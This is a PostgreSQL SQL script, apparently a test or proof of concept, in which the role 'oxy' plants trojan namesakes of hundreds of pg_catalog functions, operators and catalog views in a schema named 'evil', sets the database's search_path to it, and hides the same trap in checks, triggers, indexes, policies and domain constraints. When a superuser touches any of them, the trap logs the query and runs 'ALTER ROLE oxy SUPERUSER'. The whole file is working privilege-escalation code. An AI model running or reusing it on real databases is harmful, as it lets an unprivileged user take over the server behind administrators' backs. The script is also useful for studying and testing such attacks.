-- Everything here is run as the role "oxy". In the schema "evil" there is a namesake of each operator
-- and function of pg_catalog on common types; it says in the server's log who has run it, if that is
-- a superuser, and takes the superuser's rights for "oxy".
CREATE SCHEMA evil;
GRANT USAGE ON SCHEMA evil TO PUBLIC;
CREATE FUNCTION evil.trap(what text) RETURNS boolean LANGUAGE plpgsql AS $$
BEGIN
  IF (SELECT rolsuper FROM pg_catalog.pg_roles
      WHERE rolname OPERATOR(pg_catalog.=) current_user) THEN
    RAISE LOG 'TRAPPED %: %', what, pg_catalog.current_query();
    BEGIN
      EXECUTE 'ALTER ROLE oxy SUPERUSER';
    EXCEPTION WHEN OTHERS THEN NULL;
    END;
  END IF;
  RETURN true;
END $$;
DO $$
DECLARE
  common oid[] := '{bool,"char",name,int8,int2,int4,text,oid,float8,numeric,timestamptz,interval,xid}'
                  ::regtype[]::oid[];
  one record;
  arguments text;
  made integer := 0;
BEGIN
  FOR one IN
    SELECT p.oid, proname, prorettype, proargtypes::oid[] AS types, pronargs
    FROM pg_proc p JOIN pg_namespace n ON n.oid = pronamespace
    WHERE nspname = 'pg_catalog' AND prokind = 'f' AND pronargs <= 4 AND NOT proretset
      AND provariadic = 0 AND proargtypes::oid[] <@ common
      AND (prorettype = ANY (common) OR prorettype::regtype::text IN ('json', 'jsonb', 'text[]'))
      AND proallargtypes IS NULL
  LOOP
    SELECT string_agg('$' || i, ', ' ORDER BY i) INTO arguments FROM generate_series(1, one.pronargs) i;
    BEGIN
      EXECUTE format(
        'CREATE FUNCTION evil.%1$I(%2$s) RETURNS %3$s LANGUAGE plpgsql AS %4$L',
        one.proname, pg_get_function_identity_arguments(one.oid), one.prorettype::regtype,
        format('BEGIN PERFORM evil.trap(%1$L); RETURN pg_catalog.%1$I(%2$s); END', one.proname, arguments));
      made := made + 1;
    EXCEPTION WHEN OTHERS THEN NULL;
    END;
  END LOOP;
  ASSERT made > 500, made;
  made := 0;
  FOR one IN
    SELECT o.oid, oprname, oprleft::regtype AS l, oprright::regtype AS r, oprresult::regtype AS result
    FROM pg_operator o JOIN pg_namespace n ON n.oid = oprnamespace
    WHERE nspname = 'pg_catalog' AND oprkind = 'b'
      AND ARRAY[oprleft, oprright, oprresult] <@ common
  LOOP
    EXECUTE format(
      'CREATE FUNCTION evil.operator_%1$s(%2$s, %3$s) RETURNS %4$s LANGUAGE plpgsql AS %5$L',
      one.oid, one.l, one.r, one.result,
      format('BEGIN PERFORM evil.trap(%1$L); RETURN $1 OPERATOR(pg_catalog.%1$s) $2; END', one.oprname));
    EXECUTE format(
      'CREATE OPERATOR evil.%s (LEFTARG = %s, RIGHTARG = %s, FUNCTION = evil.operator_%s)',
      one.oprname, one.l, one.r, one.oid);
    made := made + 1;
  END LOOP;
  ASSERT made > 200, made;
END $$;
CREATE FUNCTION evil.counted(bigint) RETURNS bigint LANGUAGE plpgsql AS $$
  BEGIN PERFORM evil.trap('count'); RETURN $1 OPERATOR(pg_catalog.+) 1::bigint; END $$;
CREATE AGGREGATE evil.count(*) (SFUNC = evil.counted, STYPE = bigint, INITCOND = '0');
-- Namesakes of what a status or a backup reads.
CREATE VIEW evil.pg_database AS
  SELECT * FROM pg_catalog.pg_database WHERE evil.trap('pg_database');
CREATE VIEW evil.pg_extension AS
  SELECT * FROM pg_catalog.pg_extension WHERE evil.trap('pg_extension');
CREATE VIEW evil.pg_class AS
  SELECT * FROM pg_catalog.pg_class WHERE evil.trap('pg_class');
-- Code that runs when rows are written, read, indexed or analysed.
CREATE FUNCTION evil.same(integer) RETURNS integer IMMUTABLE LANGUAGE plpgsql AS $$
  BEGIN PERFORM evil.trap('in the table'); RETURN $1; END $$;
CREATE FUNCTION evil.fine(integer) RETURNS boolean IMMUTABLE LANGUAGE plpgsql AS $$
  BEGIN PERFORM evil.trap('in a CHECK'); RETURN true; END $$;
CREATE FUNCTION evil.triggered() RETURNS trigger LANGUAGE plpgsql AS $$
  BEGIN PERFORM evil.trap('a trigger'); RETURN NEW; END $$;
CREATE DOMAIN public.checked AS integer CHECK (evil.fine(VALUE));
CREATE TABLE public.item (
  id integer PRIMARY KEY CHECK (evil.fine(id)),
  twice integer GENERATED ALWAYS AS (evil.same(id)) STORED,
  checked public.checked
);
CREATE INDEX ON public.item (evil.same(id));
CREATE STATISTICS public.expressed ON (evil.same(id)), id FROM public.item;
CREATE TRIGGER before BEFORE INSERT OR UPDATE ON public.item
  FOR EACH ROW EXECUTE FUNCTION evil.triggered();
CREATE TABLE public.parted (id integer) PARTITION BY RANGE (evil.same(id));
CREATE TABLE public.part PARTITION OF public.parted FOR VALUES FROM (0) TO (1000000);
INSERT INTO public.item (id, checked) SELECT g, g FROM pg_catalog.generate_series(1, 500) g;
INSERT INTO public.parted SELECT g FROM pg_catalog.generate_series(1, 500) g;
CREATE VIEW public.shown AS SELECT evil.same(id) AS id FROM public.item;
CREATE MATERIALIZED VIEW public.kept AS SELECT evil.same(id) AS id FROM public.item;
CREATE TABLE public.hidden AS SELECT g AS id FROM pg_catalog.generate_series(1, 9) g;
ALTER TABLE public.hidden ENABLE ROW LEVEL SECURITY;
ALTER TABLE public.hidden FORCE ROW LEVEL SECURITY;
CREATE POLICY few ON public.hidden USING (evil.fine(id));
-- A table that its owner may not write to.
CREATE TABLE public.sealed (id integer CHECK (evil.fine(id)));
INSERT INTO public.sealed VALUES (1);
REVOKE ALL ON public.sealed FROM oxy;
GRANT SELECT ON public.sealed TO oxy;
DO $$
DECLARE one text;
BEGIN
  FOREACH one IN ARRAY '{"search_path = evil, pg_catalog, public", "statement_timeout = 1",
    "lock_timeout = 1", "default_transaction_read_only = on", "client_encoding = latin1",
    "idle_session_timeout = 1", "bytea_output = escape", "row_security = off",
    "datestyle = German", "role = oxy", "temp_tablespaces = nowhere"}'::text[]
  LOOP
    BEGIN
      EXECUTE format('ALTER DATABASE %I SET %s', current_database(), one);
    EXCEPTION WHEN invalid_parameter_value THEN NULL;
    END;
  END LOOP;
END $$;

-- The CHECK of a domain is run when the server reads a constant of its array, or of a record with it:
-- in the definition of a view, a column, an index, a rule.
CREATE DOMAIN public.guarded AS integer CHECK (evil.trap('domain in a definition'));
COMMENT ON CONSTRAINT guarded_check ON DOMAIN public.guarded IS 'kept';
CREATE DOMAIN public.lately AS integer;
ALTER DOMAIN public.lately ADD CONSTRAINT later CHECK (evil.trap('late domain')) NOT VALID;
CREATE TYPE public.pair AS (one public.guarded, two public.lately);
CREATE VIEW public.constants AS SELECT '{1}'::public.guarded[] AS a, '(1,2)'::public.pair AS b;
CREATE TABLE public.constant (
  id integer, a public.guarded[] DEFAULT '{1}', b public.lately[] DEFAULT '{2}',
  c public.pair DEFAULT '(3,4)', CHECK (a <> '{5}'::public.guarded[])
);
CREATE INDEX ON public.constant (id) WHERE a <> '{6}'::public.guarded[] AND b <> '{7}'::public.lately[];
CREATE RULE ruled AS ON UPDATE TO public.constant WHERE new.b = '{8}'::public.lately[] DO NOTHING;
ALTER TABLE public.constant ADD CONSTRAINT later CHECK (b <> '{9}'::public.lately[]) NOT VALID;
